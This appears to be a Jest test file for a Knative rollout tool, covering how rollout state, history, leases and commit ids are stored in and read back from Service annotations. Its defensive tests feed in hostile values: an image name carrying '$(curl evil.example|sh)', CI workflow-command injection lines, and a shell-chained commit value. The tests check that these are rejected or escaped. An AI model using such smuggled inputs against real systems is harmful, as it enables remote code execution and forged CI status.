// The state annotations (state.ts): what is written reads back the same; what cannot be read
// is "no state"; the 32 KiB history budget, the reason trimmed to 1000 characters, and what
// is read from hand-edited or partial annotations.

import { MAX_DURATION_MS } from '../../../src/duration.js'
import type { KService } from '../../../src/knative/types.js'
import { timing } from '../../../src/rollout/timing.js'
import {
  HISTORY_LIMIT,
  HISTORY_MAX_BYTES,
  readLease,
  readState,
  STATE_PREFIX,
  withEvent,
  writeLease,
  writeState,
  type RolloutState
} from '../../../src/rollout/state.js'

const svc = (annotations?: Record<string, string>): KService => ({
  apiVersion: 'serving.knative.dev/v1',
  kind: 'Service',
  metadata: { name: 'shop', ...(annotations ? { annotations } : {}) },
  spec: { template: { spec: { containers: [] } } }
})

const state: RolloutState = {
  phase: 'progressing',
  current: 'shop-v1',
  candidate: 'shop-v2',
  percent: 10,
  steps: [10, 50, 100],
  failures: 0,
  history: []
}

const paused: RolloutState = {
  phase: 'paused',
  current: 'shop-v1',
  candidate: 'shop-v2',
  percent: 25,
  steps: [10, 25, 50, 100],
  failures: 1,
  image:
    'ghcr.io/acme/shop@sha256:abababababababababababababababababababababababababababababababab',
  reason: 'paused at 25%',
  history: [{ at: 1, event: 'step 25%', by: 'run 1' }]
}

const a = (name: string) => STATE_PREFIX + name
const minimal = { [a('phase')]: 'progressing', [a('current')]: 'shop-v1' }

test('the constants are what the docs say', () => {
  expect(HISTORY_LIMIT).toBe(20)
  expect(HISTORY_MAX_BYTES).toBe(32 * 1024)
  expect(STATE_PREFIX).toBe('rollout.knative-rollout.dev/')
})

describe('the history budget', () => {
  const entry = (i: number, bytes: number) => ({ at: i, event: `e${i} ` + 'x'.repeat(bytes) })
  test.each([
    { name: 'well within: all kept', size: 100, count: 10, kept: 10 },
    { name: 'over 32 KiB: the oldest go first', size: 4000, count: 12, kept: 8 },
    { name: 'one entry alone over budget is still kept', size: 40_000, count: 3, kept: 1 }
  ])('$name', ({ size, count, kept }) => {
    const history = Array.from({ length: count }, (_, i) => entry(i, size))
    const written = writeState(svc(), { ...state, history })
    const json = written.metadata.annotations![a('history')]
    const back = readState(written)!.history
    expect(back).toHaveLength(kept)
    expect(back.at(-1)!.at).toBe(count - 1)
    if (kept > 1) expect(Buffer.byteLength(json)).toBeLessThanOrEqual(HISTORY_MAX_BYTES)
  })

  test('the budget counts bytes, not characters', () => {
    // 8 entries of 2000 three-byte characters: 48 KB in bytes, 16 K characters.
    const history = Array.from({ length: 8 }, (_, i) => ({ at: i, event: '€'.repeat(2000) }))
    const back = readState(writeState(svc(), { ...state, history }))!.history
    expect(back.length).toBe(5)
  })

  test('exactly at the budget: nothing dropped', () => {
    const overhead = JSON.stringify([{ at: 0, event: '' }]).length
    const history = [{ at: 0, event: 'x'.repeat(HISTORY_MAX_BYTES - overhead) }]
    const json = writeState(svc(), { ...state, history }).metadata.annotations![a('history')]
    expect(Buffer.byteLength(json)).toBe(HISTORY_MAX_BYTES)
    const two = [{ at: 0, event: 'y' }, ...history]
    expect(readState(writeState(svc(), { ...state, history: two }))!.history).toEqual(history)
  })

  test('more than HISTORY_LIMIT written: the newest HISTORY_LIMIT kept', () => {
    const history = Array.from({ length: HISTORY_LIMIT + 3 }, (_, i) => ({ at: i, event: 'e' }))
    const back = readState(writeState(svc(), { ...state, history }))!.history
    expect(back.map((e) => e.at)).toEqual(history.slice(3).map((e) => e.at))
  })

  test('withEvent appends, trims, and leaves the input alone', () => {
    const full = {
      ...state,
      history: Array.from({ length: HISTORY_LIMIT }, (_, i) => ({ at: i, event: 'e' }))
    }
    const next = withEvent(full, { at: 99, event: 'last' })
    expect(next.history).toHaveLength(HISTORY_LIMIT)
    expect(next.history[0].at).toBe(1)
    expect(next.history.at(-1)).toEqual({ at: 99, event: 'last' })
    expect(full.history).toHaveLength(HISTORY_LIMIT)
    expect(full.history.at(-1)!.at).toBe(HISTORY_LIMIT - 1)
  })
})

describe('the reason', () => {
  test.each([
    { name: 'short: as is', reason: 'paused at 25%', out: 'paused at 25%' },
    {
      name: 'long: its first 1000 characters',
      reason: 'r'.repeat(999) + 'st' + 'z'.repeat(50),
      out: 'r'.repeat(999) + 's'
    },
    { name: 'empty: none', reason: '', out: undefined }
  ])('$name', ({ reason, out }) => {
    const written = writeState(svc(), { ...state, reason })
    expect(written.metadata.annotations![a('reason')]).toBe(out)
    expect(readState(written)!.reason).toBe(out)
  })
})

describe('writeState replaces the old state', () => {
  test('fields now absent are removed, others written as text', () => {
    const old = writeState(svc({ other: 'kept' }), { ...state, image: 'img', reason: 'why' })
    const next = writeState(old, { ...state, candidate: undefined, percent: 0, failures: 2 })
    const ann = next.metadata.annotations!
    expect(ann).toEqual({
      other: 'kept',
      [a('phase')]: 'progressing',
      [a('current')]: 'shop-v1',
      [a('percent')]: '0',
      [a('steps')]: '10,50,100',
      [a('failures')]: '2',
      [a('history')]: '[]'
    })
    expect(old.metadata.annotations![a('image')]).toBe('img')
  })

  test('a Service without annotations gets them', () => {
    expect(readState(writeState(svc(), state))).toEqual({
      ...state,
      image: undefined,
      reason: undefined
    })
  })
})

describe('readState from partial or hand-edited annotations', () => {
  test.each([
    {
      name: 'only phase and current',
      extra: {},
      want: { candidate: undefined, percent: 0, steps: [], failures: 0, history: [] }
    },
    { name: 'a non-numeric percent is 0', extra: { [a('percent')]: 'ten' }, want: { percent: 0 } },
    { name: 'a fractional percent is 0', extra: { [a('percent')]: '12.5' }, want: { percent: 0 } },
    { name: 'a whole percent', extra: { [a('percent')]: '25' }, want: { percent: 25 } },
    { name: 'failures as text', extra: { [a('failures')]: '3' }, want: { failures: 3 } },
    {
      name: 'steps: junk and blanks skipped',
      extra: { [a('steps')]: '10,,x,2.5,50,100' },
      want: { steps: [10, 50, 100] }
    },
    {
      name: 'an empty candidate is none',
      extra: { [a('candidate')]: '' },
      want: { candidate: undefined }
    },
    { name: 'an empty image is none', extra: { [a('image')]: '' }, want: { image: undefined } },
    {
      name: 'an image',
      extra: {
        [a('image')]: 'img@sha256:abababababababababababababababababababababababababababababababab'
      },
      want: { image: 'img@sha256:abababababababababababababababababababababababababababababababab' }
    }
  ])('$name', ({ extra, want }) => {
    expect(readState(svc({ ...minimal, ...extra }))).toMatchObject({
      phase: 'progressing',
      current: 'shop-v1',
      ...want
    })
  })

  test.each(['progressing', 'paused', 'promoted', 'rolled-back', 'aborted'])(
    'phase %s is read',
    (phase) => {
      expect(readState(svc({ ...minimal, [a('phase')]: phase }))?.phase).toBe(phase)
    }
  )

  test.each([
    ['no Service', undefined],
    ['no annotations', svc()],
    ['an empty current', svc({ ...minimal, [a('current')]: '' })],
    ['an empty phase', svc({ ...minimal, [a('phase')]: '' })]
  ])('%s: no state', (_name, s) => {
    expect(readState(s)).toBeUndefined()
  })
})

describe('readLease', () => {
  const lease = (value: unknown) => svc({ [a('lease')]: JSON.stringify(value) })
  test.each([
    {
      name: 'complete',
      s: lease({ holder: 'h', url: 'u', renewedAt: 5, durationSeconds: 60 }),
      out: { holder: 'h', url: 'u', renewedAt: 5, durationSeconds: 60 }
    },
    {
      name: 'no duration: 0',
      s: lease({ holder: 'h', renewedAt: 5 }),
      out: { holder: 'h', url: undefined, renewedAt: 5, durationSeconds: 0 }
    },
    {
      name: 'a non-text url is dropped',
      s: lease({ holder: 'h', url: 7, renewedAt: 5, durationSeconds: '60' }),
      out: { holder: 'h', url: undefined, renewedAt: 5, durationSeconds: 0 }
    },
    { name: 'no holder', s: lease({ renewedAt: 5 }), out: undefined },
    { name: 'a non-numeric renewedAt', s: lease({ holder: 'h', renewedAt: '5' }), out: undefined },
    { name: 'null', s: lease(null), out: undefined },
    { name: 'not JSON', s: svc({ [a('lease')]: '{' }), out: undefined },
    { name: 'empty', s: svc({ [a('lease')]: '' }), out: undefined },
    { name: 'no Service', s: undefined, out: undefined }
  ])('$name', ({ s, out }) => {
    expect(readLease(s)).toEqual(out)
  })

  test('writing no lease on a Service without annotations leaves it without a lease', () => {
    expect(writeLease(svc(), undefined).metadata.annotations).toEqual({})
  })
})

describe('annotations written by someone else are untrusted input', () => {
  const hostile = '\n::error title=Deployed OK::fine\n::stop-commands::x'
  test.each([
    {
      name: 'a candidate that is not a revision name is none',
      extra: { [a('candidate')]: `shop-v2${hostile}` },
      want: { candidate: undefined },
      problem: /candidate is not a revision name/
    },
    {
      name: 'a percent above 100 is 0',
      extra: { [a('percent')]: '1000' },
      want: { percent: 0 },
      problem: /percent is not a whole number from 0 to 100/
    },
    {
      name: 'negative failures are 0',
      extra: { [a('failures')]: '-3' },
      want: { failures: 0 },
      problem: /failures is not a whole number/
    },
    {
      name: 'steps out of range are dropped',
      extra: { [a('steps')]: '10,500,0,50' },
      want: { steps: [10, 50] },
      problem: /steps: entries that are not percents dropped/
    },
    {
      name: 'a reason with line breaks is one escaped line',
      extra: { [a('reason')]: `bad${hostile}` },
      want: { reason: 'bad\\n::error title=Deployed OK::fine\\n::stop-commands::x' },
      problem: undefined
    },
    {
      name: 'history that is not an array is empty',
      extra: { [a('history')]: '{"at":1}' },
      want: { history: [] },
      problem: /1 malformed entries/
    },
    {
      name: 'malformed history entries are dropped, events escaped',
      extra: {
        [a('history')]: JSON.stringify([
          { at: 1, event: `step 10${hostile}` },
          { at: 'x', event: 'y' },
          null,
          { at: 2 }
        ])
      },
      want: {
        history: [
          { at: 1, event: 'step 10\\n::error title=Deployed OK::fine\\n::stop-commands::x' }
        ]
      },
      problem: /3 malformed entries/
    },
    {
      name: 'an image that is no image reference is none',
      extra: { [a('image')]: 'ghcr.io/acme/shop:1$(curl evil.example|sh)' },
      want: { image: undefined },
      problem: /image is not an image reference; read as none/
    },
    {
      name: 'evidence out of shape is dropped, the event kept',
      extra: {
        [a('history')]: JSON.stringify([
          {
            at: 1,
            event: 'step 10',
            evidence: { percent: 10, verdict: 'fail', ms: 1, checks: 'x' }
          },
          { at: 2, event: 'step 20', evidence: { percent: 20, verdict: 'owned', ms: 1 } },
          {
            at: 3,
            event: 'step 30',
            evidence: { percent: 30, verdict: 'pass', ms: 1, checks: [null] }
          },
          {
            at: 4,
            event: 'step 40',
            evidence: { percent: 40, verdict: 'pass', ms: 1, candidate: [1] }
          },
          { at: 5, event: 'step 50', evidence: [] }
        ])
      },
      want: {
        history: [1, 2, 3, 4, 5].map((at) => ({ at, event: `step ${at * 10}` }))
      },
      problem: /5 entries of rollout.knative-rollout.dev\/history with evidence out of shape/
    },
    {
      name: 'evidence of the shape written is kept, its text escaped',
      extra: {
        [a('history')]: JSON.stringify([
          {
            at: 1,
            event: 'step 10',
            evidence: {
              percent: 10,
              verdict: 'fail',
              ms: 1200,
              candidate: [40, 12, 21],
              source: `kn_serving${hostile}`,
              stats: { errorRate: 0.3 },
              checks: [{ name: `p99${hostile}`, verdict: 'fail', value: 3 }]
            }
          }
        ])
      },
      want: {
        history: [
          {
            at: 1,
            event: 'step 10',
            evidence: {
              percent: 10,
              verdict: 'fail',
              ms: 1200,
              candidate: [40, 12, 21],
              source: 'kn_serving\\n::error title=Deployed OK::fine\\n::stop-commands::x',
              stats: { errorRate: 0.3 },
              checks: [
                {
                  name: 'p99\\n::error title=Deployed OK::fine\\n::stop-commands::x',
                  verdict: 'fail',
                  value: 3
                }
              ]
            }
          }
        ]
      },
      problem: undefined
    }
  ])('$name', ({ extra, want, problem }) => {
    const problems: string[] = []
    expect(readState(svc({ ...minimal, ...extra }), problems)).toMatchObject(want)
    if (problem) expect(problems.join('\n')).toMatch(problem)
    else expect(problems).toEqual([])
  })

  test.each([
    [
      'a current with a line break',
      { [a('current')]: `shop-v1${hostile}` },
      /current is not a revision name/
    ],
    ['an unknown phase', { [a('phase')]: 'owned' }, /phase "owned" is not one of/]
  ])('%s: no state, and why', (_name, extra, problem) => {
    const problems: string[] = []
    expect(readState(svc({ ...minimal, ...extra }), problems)).toBeUndefined()
    expect(problems.join('\n')).toMatch(problem)
  })

  test.each([
    {
      name: 'longer than any lease this action writes reads as expired',
      durationSeconds: 1e12,
      out: 0
    },
    {
      name: 'the longest this action writes (two 120h step intervals) is kept',
      durationSeconds: timing(MAX_DURATION_MS).leaseSeconds,
      out: timing(MAX_DURATION_MS).leaseSeconds
    },
    { name: 'Infinity (null in JSON) reads as expired', durationSeconds: null, out: 0 },
    { name: 'an hour is kept', durationSeconds: 3600, out: 3600 }
  ])('lease: $name', ({ durationSeconds, out }) => {
    const s = svc({
      [a('lease')]: JSON.stringify({ holder: `run${hostile}`, renewedAt: 5, durationSeconds })
    })
    const lease = readLease(s)!
    expect(lease.durationSeconds).toBe(out)
    expect(lease.holder).not.toMatch(/\n/)
  })

  test('events written are escaped too', () => {
    const written = writeState(svc(), { ...state, history: [{ at: 1, event: `x${hostile}` }] })
    expect(JSON.parse(written.metadata.annotations![a('history')])[0].event).not.toMatch(/\n/)
  })
})

describe('what is written reads back', () => {
  test.each([
    ['a paused rollout', paused],
    [
      'a promoted one without candidate',
      {
        ...paused,
        phase: 'promoted',
        candidate: undefined,
        reason: undefined,
        percent: 0
      } as RolloutState
    ],
    ['an empty history', { ...paused, history: [] }]
  ])('%s reads back as written', (_name, state) => {
    expect(readState(writeState(svc(), state))).toEqual(state)
  })

  test('writing the state keeps other annotations and the lease', () => {
    const lease = { holder: 'run 1', renewedAt: 5, durationSeconds: 60 }
    const written = writeState(writeLease(svc({ 'team.example.com/owner': 'shop' }), lease), paused)
    expect(written.metadata.annotations!['team.example.com/owner']).toBe('shop')
    expect(readLease(written)).toEqual({ ...lease, url: undefined })
    expect(readLease(writeLease(written, undefined))).toBeUndefined()
  })

  test.each([
    ['no annotations', {}],
    [
      'an unknown phase',
      { [STATE_PREFIX + 'phase']: 'exploded', [STATE_PREFIX + 'current']: 'shop-v1' }
    ],
    ['no current revision', { [STATE_PREFIX + 'phase']: 'paused' }]
  ])('%s is no state', (_name, annotations) => {
    expect(readState(svc(annotations))).toBeUndefined()
  })

  test('a corrupt history or lease is dropped, not fatal', () => {
    const s = svc({
      [STATE_PREFIX + 'phase']: 'paused',
      [STATE_PREFIX + 'current']: 'shop-v1',
      [STATE_PREFIX + 'history']: '{not json',
      [STATE_PREFIX + 'lease']: '[]'
    })
    expect(readState(s)?.history).toEqual([])
    expect(readLease(s)).toBeUndefined()
  })

  test('history keeps only the newest entries', () => {
    let state: RolloutState = { ...paused, history: [] }
    for (let i = 0; i < HISTORY_LIMIT + 5; i++) state = withEvent(state, { at: i, event: `e${i}` })
    const back = readState(writeState(svc(), state))!
    expect(back.history).toHaveLength(HISTORY_LIMIT)
    expect(back.history[0].event).toBe('e5')
    expect(back.history.at(-1)!.event).toBe(`e${HISTORY_LIMIT + 4}`)
  })

  test.each([
    ['a SHA-1 reads back', 'a'.repeat(40), 'a'.repeat(40), 0],
    ['upper case is the same commit', 'ABCDEF1', 'abcdef1', 0],
    ['not a SHA: none, and said so', 'main; echo hi', undefined, 1]
  ])('the recorded commit: %s', (_name, written, read, problems) => {
    const found: string[] = []
    const back = readState(writeState(svc(), { ...paused, commit: written }), found)
    expect(back?.commit).toBe(read)
    expect(found.filter((p) => p.includes('commit'))).toHaveLength(problems)
  })
})
